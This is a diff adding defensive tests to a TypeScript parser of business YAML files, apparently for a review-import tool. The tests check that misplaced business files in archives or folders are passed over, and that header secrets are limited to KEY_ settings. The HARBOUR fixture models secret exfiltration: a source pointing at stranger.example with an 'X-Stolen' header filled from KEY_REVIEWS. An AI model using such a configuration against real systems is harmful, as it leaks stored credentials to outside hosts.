@@ -1,5 +1,10 @@
 import assert from "node:assert/strict";
-import { test } from "node:test";
+import { join } from "node:path";
+import { describe, test } from "node:test";
+import { gzipSync } from "node:zlib";
+import { packTar } from "modern-tar";
+import { openSandbox, type Sandbox } from "../../test/support/import-sandbox.ts";
+import { zipOf } from "../../test/support/zip-writer.ts";
 import { Invalid } from "../issue.ts";
 import { parseBusinessFile } from "./business-file.ts";
 
@@ -250,4 +255,103 @@ test("parseBusinessFile() tells a person who knows no YAML what to write instead
     [`${base}sources:\n  - { url: example.com/a.csv }\n`, /^[^;]*must be an http or https address[^;]*$/],
   ];
   for (const [text, pattern] of cases) assert.match(faults(text).join("; "), pattern, text);
+});
+
+describe("a business file", () => {
+  const HARBOUR = `name: Harbour Plumbing
+time_zone: America/Chicago
+verified_sources: [google, first_party]
+sources:
+  - { url: https://stranger.example/key, header: { name: X-Stolen, from_env: KEY_REVIEWS } }
+`;
+  const ROWS = "id,rating,date,source\n1,5,2026-01-02,google\n";
+  const WHY = /describes a business and is passed over: a business file counts only if you name its own path/;
+  const storedBusiness = async ({ store }: Sandbox) => {
+    return (await store.database.selectFrom("business").selectAll().execute()).length;
+  };
+
+  for (const [name, path] of [
+    ["a .yaml file whose path is given", "own.yaml"],
+    ["a .yml file whose path is given", "deep/in/own.YML"],
+    ["business.yaml at the top of a folder that is given", "f/business.yaml"],
+  ] as const) {
+    test(`counts as ${name}, and the report says what it decides`, async () => {
+      await using box = await openSandbox();
+      const file = box.write(path, HARBOUR);
+      const report = await box.take(path.startsWith("f/") ? join(box.folder, "f") : file);
+      assert.deepEqual([report.business, report.business_file, report.passed_over], ["added", file, []]);
+      assert.deepEqual(report.business_changes, [
+        "verified_sources, new: first_party",
+        'sources, new: {"url":"https://stranger.example/key","every":"1d","complete":false,"header":{"name":"X-Stolen","from_env":"KEY_REVIEWS"}}',
+      ]);
+    });
+  }
+
+  /** What is given, below the sandbox's folder, and the misplaced file in it. */
+  const MISPLACED: readonly [name: string, given: string, file: string, write: (box: Sandbox) => unknown][] = [
+    ["in a zip", "e.zip", "e.zip!business.yaml", (box) => writeZip(box, "business.yaml")],
+    ["deep in a zip", "e.zip", "e.zip!export/business.yaml", (box) => writeZip(box, "export/business.yaml")],
+    ["in a zip under another name", "e.zip", "e.zip!export/notes.txt", (box) => writeZip(box, "export/notes.txt")],
+    ["in a zip in a folder", "f", "f/e.zip!business.yaml", (box) => writeZip(box, "business.yaml", "f/e.zip")],
+    ["in a tgz", "e.tgz", "e.tgz!business.yaml", writeTgz],
+    ["deeper in a folder", "f", "f/export/business.yaml", (box) => box.write("f/export/business.yaml", HARBOUR)],
+    ["under another name in a folder", "f", "f/notes.txt", (box) => box.write("f/notes.txt", HARBOUR)],
+    ["as business.yml in a folder", "f", "f/business.yml", (box) => box.write("f/business.yml", HARBOUR)],
+    ["as other YAML in a folder", "f", "f/site.yaml", (box) => box.write("f/site.yaml", HARBOUR)],
+    ["under another name, although it is given", "notes.txt", "notes.txt", (box) => box.write("notes.txt", HARBOUR)],
+  ];
+
+  function writeZip(box: Sandbox, name: string, zip = "e.zip"): void {
+    box.write(zip, zipOf([{ name, content: HARBOUR }]));
+  }
+
+  async function writeTgz(box: Sandbox): Promise<void> {
+    const header = { name: "business.yaml", size: HARBOUR.length, type: "file" } as const;
+    box.write("e.tgz", gzipSync(await packTar([{ header, body: HARBOUR }])));
+  }
+
+  for (const [name, given, file, write] of MISPLACED) {
+    test(`${name} decides nothing beside reviews, and is named with the reason`, async () => {
+      await using box = await openSandbox();
+      await write(box);
+      const report = await box.take([join(box.folder, given), box.write("reviews.csv", ROWS)], { skipInvalid: true });
+      assert.deepEqual([report.added, report.business, report.business_changes], [1, null, []]);
+      assert.deepEqual(report.passed_over, [join(box.folder, file)]);
+      const named = report.warnings.filter((warning) => warning.startsWith(join(box.folder, file)));
+      assert.match(named.join(), WHY);
+      assert.equal(await storedBusiness(box), 0);
+    });
+
+    test(`${name}, with nothing else, is refused with the reason`, async () => {
+      await using box = await openSandbox();
+      await write(box);
+      const [refusal = "", ...others] = await box.refusal(join(box.folder, given));
+      assert.deepEqual(others, []);
+      assert.match(refusal, WHY);
+      assert.ok(refusal.includes(file), refusal);
+      assert.equal(await storedBusiness(box), 0);
+    });
+  }
+
+  test("in an archive is not asked for a valid form, and reviews that quote one stay reviews", async () => {
+    await using box = await openSandbox();
+    const quoted = `id,rating,date,source,text\n1,5,2026-01-02,google,"Their card says\nname: Air\ntime_zone: UTC"\n`;
+    const entries = [
+      { name: "business.yaml", content: "name: [" },
+      { name: "reviews.csv", content: quoted },
+    ];
+    const report = await box.take(box.write("e.zip", zipOf(entries)));
+    assert.deepEqual([report.added, report.business, report.passed_over.length], [1, null, 1]);
+  });
+
+  test("may name only settings that begin with KEY_, and says what to do", () => {
+    const yaml = (name: string) =>
+      `name: A\ntime_zone: UTC\nsources:\n  - url: https://a.example/\n    header: { name: X, from_env: ${name} }\n`;
+    for (const name of ["HUB_SECRET_KEY", "DATABASE_URL", "key_a", "MY_KEY_A", "KEY_"]) {
+      assert.deepEqual(faults(yaml(name)), [
+        `business.yaml:5: sources[0].header.from_env is "${name}": must be a setting that begins with KEY_, such as KEY_REVIEWS: rename the setting in goodword.env or the environment, and here`,
+      ]);
+    }
+    assert.deepEqual(faults(yaml("KEY_REVIEWS")), []);
+  });
 });
